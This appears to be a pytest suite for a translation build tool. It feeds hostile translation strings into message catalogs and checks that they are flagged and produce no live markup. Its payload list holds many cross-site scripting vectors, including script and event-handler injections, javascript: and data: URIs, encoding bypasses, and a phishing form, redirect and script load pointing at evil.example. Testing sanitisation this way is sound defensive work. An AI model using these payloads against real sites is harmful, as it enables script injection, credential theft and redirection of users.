"""Hostile translations: whatever a msgstr holds, `check` flags it and `build` emits no markup.

Each payload becomes the msgstr of every entry of a real catalog (element text, the title, and
attribute values quoted with ", with ' and unquoted, and a meta description), keeping the msgid's
placeholders so the build really splices it in. The built page is parsed, not grepped: it must
have exactly the source page's elements and attribute names, in the same order, and the same
URLs, whatever the text says.
"""

from __future__ import annotations

import json
from collections import Counter
from collections.abc import Callable
from pathlib import Path

import pytest
from bs4 import BeautifulSoup, Tag

from pipeline.model import Message
from pipeline.placeholders import Tag as Placeholder
from pipeline.placeholders import tokenize
from pipeline.pofile import parse_po
from tests.reliability import assert_clean, invoke, site_with_catalogs, translate

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus x='",
    "x onerror=alert(1) y",
    "</title><script>alert(1)</script>",
    "</p><iframe src=javascript:alert(1)></iframe>",
    "javascript:alert(document.cookie)",
    "JaVaScRiPt:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    '<a href="javascript:alert(1)">click</a>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "&quot; onclick=&quot;alert(1)",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "width: expression(alert(1))",
    "<svg onload=alert(1)>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<!-- swallow the rest of the page",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<1 onclick=alert(1)>smuggled</1>",
    "<1/ onclick=alert(1)>",
    "<9>invented</9>",
    "<1>twice</1><1>twice</1>",
    "</1>closed first<1>",
    "\u202eevil reversed\u202c",
    "\u2066isolate\u2069 text",
    "zero\u200bwidth\u200djoiner\ufeff",
    "line\r\nbreak<script>alert(1)</script>",
    "<form action=//evil.example><input name=password></form>",
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "<base href=//evil.example/>",
]


def hostile(payload: str) -> Callable[[Message], str]:
    """The payload as a msgstr for `message`, keeping the msgid's placeholders."""

    def translation(message: Message) -> str:
        tags = [str(t) for t in tokenize(message.msgid) if isinstance(t, Placeholder)]
        if not tags:
            return payload
        return f"{tags[0]}{payload}" + "".join(tags[1:])

    return translation


def shape(html: str) -> list[tuple[str, tuple[str, ...]]]:
    """Every element in document order, with its attribute names."""
    soup = BeautifulSoup(html, "html.parser")
    return [(e.name, tuple(sorted(e.attrs))) for e in soup.find_all(True)]


def urls(html: str) -> Counter[str]:
    soup = BeautifulSoup(html, "html.parser")
    found: Counter[str] = Counter()
    for element in soup.find_all(True):
        assert isinstance(element, Tag)
        for name in ("href", "src", "action", "formaction", "xlink:href", "content"):
            value = element.get(name)
            if isinstance(value, str) and name != "content":
                found[f"{element.name} {name}={value}"] += 1
    return found


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_flagged_by_check_and_inert_in_the_build(
    payload: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    catalogs = site_with_catalogs(tmp_path, monkeypatch)
    for catalog in catalogs:
        translate(catalog, hostile(payload))

    checked = invoke("check", "--format", "json")
    assert_clean(checked, 1)
    report = json.loads(checked.stdout)
    flagged = {(p["file"], p["msgid"]) for p in report["problems"] if p["severity"] == "error"}
    for catalog in catalogs:
        text = catalog.read_text(encoding="utf-8")
        for message in parse_po(text, path=str(catalog)).active:
            shown = str(catalog.relative_to(tmp_path))
            assert (shown, message.msgid) in flagged, f"{message.msgid!r} not flagged"

    assert_clean(invoke("build", "--jobs", "1", "--min-percent", "0"), 0)
    for name in ("index.html", "other.html"):
        english = (tmp_path / "site/en" / name).read_text(encoding="utf-8")
        built = (tmp_path / "site/ja" / name).read_text(encoding="utf-8")
        soup = BeautifulSoup(built, "html.parser")
        assert not soup.find_all("script")
        for element in soup.find_all(True):
            assert isinstance(element, Tag)
            assert not [a for a in element.attrs if a.lower().startswith("on")], element
            for attribute in ("href", "src"):
                value = element.get(attribute)
                if isinstance(value, str):
                    assert not value.strip().lower().startswith(("javascript:", "data:"))
        assert shape(built) == shape(english)
        assert Counter(n for n, _ in shape(built)) == Counter(n for n, _ in shape(english))
        assert urls(built) == urls(english)


def test_every_translatable_place_received_the_payload(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The table above really reaches text, title, attributes (all quotings) and meta content."""
    catalogs = site_with_catalogs(tmp_path, monkeypatch)
    marker = "MARKER\"'<>&"
    for catalog in catalogs:
        translate(catalog, hostile(marker))
    assert_clean(invoke("build", "--jobs", "1", "--min-percent", "0"), 0)
    built = (tmp_path / "site/ja/index.html").read_text(encoding="utf-8")
    soup = BeautifulSoup(built, "html.parser")
    assert soup.title is not None and soup.title.string == marker
    meta = soup.find("meta", attrs={"name": "description"})
    assert isinstance(meta, Tag) and meta["content"] == marker
    assert [img["alt"] for img in soup.find_all("img")] == [marker] * 3
    heading = soup.find("h1")
    assert isinstance(heading, Tag) and heading["title"] == marker
    assert any(p.get_text().startswith(marker) for p in soup.find_all("p"))
